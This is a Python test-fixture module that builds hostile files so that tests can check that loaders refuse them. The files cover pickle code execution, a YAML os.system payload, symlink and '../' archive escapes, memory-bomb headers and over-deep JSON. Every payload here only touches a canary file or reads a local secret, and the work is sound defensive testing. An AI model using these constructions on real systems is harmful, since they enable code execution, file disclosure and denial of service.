"""Files that do harm where they are opened unsafely, one for each published class of attack.

As a program, ``python hostile_files.py FOLDER`` opens each file of a folder that :func:`write_all` filled in the unsafe
way, and prints as JSON what came of it: a test that such a file does no harm shows nothing unless it can do some.
"""

import json
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np

import hostile_graphs
import hostile_keras

SECRET = "whispered-0451"  # noqa: S105
HUGE = 2**42


@dataclass(frozen=True)
class Attack:
    """A class of attack.

    Attributes:
        name: Its CVE number, where it has one, and its file's name.
        write: Makes the file, given its path, the canary's path and the secret's.
        unsafe: Opens it so that it does harm: makes the canary, returns the secret, or returns a size in bytes that no
            memory has. ``None`` where nothing opens it.
        refused: Why what is installed here refuses it even so; the harm was done by older versions.
    """

    name: str
    write: Callable[[Path, Path, Path], object]
    unsafe: Callable[[Path], Any] | None
    refused: str = ""


class Payload:
    """What makes the canary when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self):
        return Path.touch, (self.canary,)


def write_pickle(path, canary, secret):
    path.write_bytes(pickle.dumps(Payload(canary)))


def write_npy(path, canary, secret):
    np.save(path, np.array([Payload(canary)], object), allow_pickle=True)


def write_npz(path, canary, secret):
    objects = np.array([Payload(canary)], object)
    np.savez(path, images=objects, labels=objects)


def write_links_zip(path, canary, secret):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", "{}")
        link = zipfile.ZipInfo("assets/vocabulary.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, str(secret))


def write_links_tar(path, canary, secret):
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("assets/vocabulary.txt")
        link.type, link.linkname = tarfile.SYMTYPE, str(secret)
        archive.addfile(link)


def write_escaping_tar(path, canary, secret):
    with tarfile.open(path, "w") as archive:
        archive.addfile(tarfile.TarInfo("../canary"))


def unpack_zip(path):
    if shutil.which("unzip") is None:  # Python's own reader writes links as files
        raise ModuleNotFoundError("unzip is not installed")
    subprocess.run(["unzip", "-q", path, "-d", path.with_suffix("")], check=True)  # noqa: S607
    return (path.with_suffix("") / "assets" / "vocabulary.txt").read_text()


def unpack_tar(path):
    folder = path.with_suffix("")
    folder.mkdir(exist_ok=True)
    trusting = {"filter": "fully_trusted"} if hasattr(tarfile, "fully_trusted_filter") else {}  # from Python 3.11.4 on
    with tarfile.open(path) as archive:
        archive.extractall(folder, **trusting)  # noqa: S202
    return [item.read_text() for item in folder.rglob("*.txt")]


def huge_npy_header(descr="|u1", shape=(HUGE,)):
    text = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def write_huge_npz(path, canary, secret):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("images.npy", huge_npy_header(shape=(HUGE // 64, 8, 8)) + b"1234")
        archive.writestr("labels.npy", huge_npy_header() + b"1234")


def write_huge_npy(path, canary, secret):
    path.write_bytes(huge_npy_header(descr="<U1000000", shape=(2**21,)) + b"1234")


def npy_size(path):
    with zipfile.ZipFile(path).open("images.npy") if path.suffix == ".npz" else path.open("rb") as file:
        np.lib.format.read_magic(file)
        shape, _, dtype = np.lib.format.read_array_header_1_0(file)
    return int(np.prod(shape)) * dtype.itemsize


def write_huge_safetensors(path, canary, secret):
    header = json.dumps({"kernel": {"dtype": "F32", "shape": [HUGE // 4], "data_offsets": [0, HUGE]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + b"1234")


def write_huge_header(path, canary, secret):
    path.write_bytes(struct.pack("<Q", HUGE) + b"{}")


def write_huge_idx(path, canary, secret):
    path.write_bytes(b"\0\0\x08\x03" + struct.pack(">III", 2**31, 2**10, 2**10) + b"1234")


def write_huge_picture(path, canary, secret):
    import io

    from PIL import Image

    data = io.BytesIO()
    Image.new("L", (1, 1)).save(data, "BMP")
    head = bytearray(data.getvalue())
    head[18:26] = struct.pack("<ii", 2**21, 2**21)  # width and height
    path.write_bytes(head)


def picture_size(path):
    from PIL import Image

    Image.MAX_IMAGE_PIXELS = None
    with Image.open(path) as image:
        return image.width * image.height


def idx_size(path):
    return int(np.prod(struct.unpack(">III", path.read_bytes()[4:16]), dtype=object))


def safetensors_size(path):
    data = path.read_bytes()
    (length,) = struct.unpack("<Q", data[:8])
    return length if length >= HUGE else json.loads(data[8 : 8 + length])["kernel"]["shape"][0] * 4


def write_table(path, canary, secret):
    path.write_text(f"file,label\n{secret},a\n{secret},b\n", encoding="utf-8")


def read_table(path):
    return Path(path.read_text(encoding="utf-8").splitlines()[1].split(",")[0]).read_text(encoding="utf-8")


def write_nested_json(path, canary, secret):
    path.write_text("[" * 200_000, encoding="utf-8")


def write_yaml(path, canary, secret):
    path.write_text(f"!!python/object/apply:os.system ['touch {canary}']\n", encoding="utf-8")


def load_yaml(path):
    import yaml

    return yaml.unsafe_load(path.read_text(encoding="utf-8"))


def unpickle(path):
    return pickle.loads(path.read_bytes())  # noqa: S301


ATTACKS = [
    *(Attack(*row) for row in (*hostile_keras.ATTACKS, *hostile_graphs.ATTACKS)),
    *(
        Attack(f"pickle{suffix}", write_pickle, unpickle)
        for suffix in (
            ".pkl",
            ".safetensors",
            ".keras",
            ".h5",
            ".npz",
            ".npy",
            ".png",
            ".csv",
            ".idx",
            ".json",
            ".onnx",
            ".tflite",
        )
    ),
    Attack("pickle-in-npy.npy", write_npy, partial(np.load, allow_pickle=True)),
    Attack("pickle-in-npz.npz", write_npz, lambda path: np.load(path, allow_pickle=True)["images"]),
    Attack("symlinked-asset.zip", write_links_zip, unpack_zip),
    Attack("symlinked-asset.tar", write_links_tar, unpack_tar),
    Attack("CVE-2025-12060-path-outside.tar", write_escaping_tar, unpack_tar),
    Attack("shape-bomb.npz", write_huge_npz, npy_size),
    Attack("shape-bomb.npy", write_huge_npy, npy_size),
    Attack("shape-bomb.safetensors", write_huge_safetensors, safetensors_size),
    Attack("header-bomb.safetensors", write_huge_header, safetensors_size),
    Attack("shape-bomb.idx", write_huge_idx, idx_size),
    Attack("shape-bomb.bmp", write_huge_picture, picture_size),
    Attack("table-of-secrets.csv", write_table, read_table),
    Attack("nested.json", write_nested_json, None),
    Attack("CVE-2021-37678-object.yaml", write_yaml, load_yaml),
]


def write_all(folder: Path) -> None:
    """Make all files, the secret, and no canary."""
    secret = folder / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    for attack in ATTACKS:
        attack.write(folder / attack.name, folder / "canary", secret)
    (folder / "canary").unlink(missing_ok=True)


def harm_of(attack: Attack, folder: Path) -> str:
    """Open a file in the unsafe way and say what it did."""
    assert attack.unsafe is not None
    canary = folder / "canary"
    canary.unlink(missing_ok=True)
    try:
        result = attack.unsafe(folder / attack.name)
    except Exception as error:  # noqa: BLE001
        result = f"{type(error).__name__}: {error}"
    if canary.exists():
        return "ran code"
    if isinstance(result, int) and result >= HUGE:
        return "asked for memory"
    return "told the secret" if SECRET in str(result) else f"none: {result}"


if __name__ == "__main__":
    print(json.dumps({attack.name: harm_of(attack, Path(sys.argv[1])) for attack in ATTACKS if attack.unsafe}))  # noqa: T201
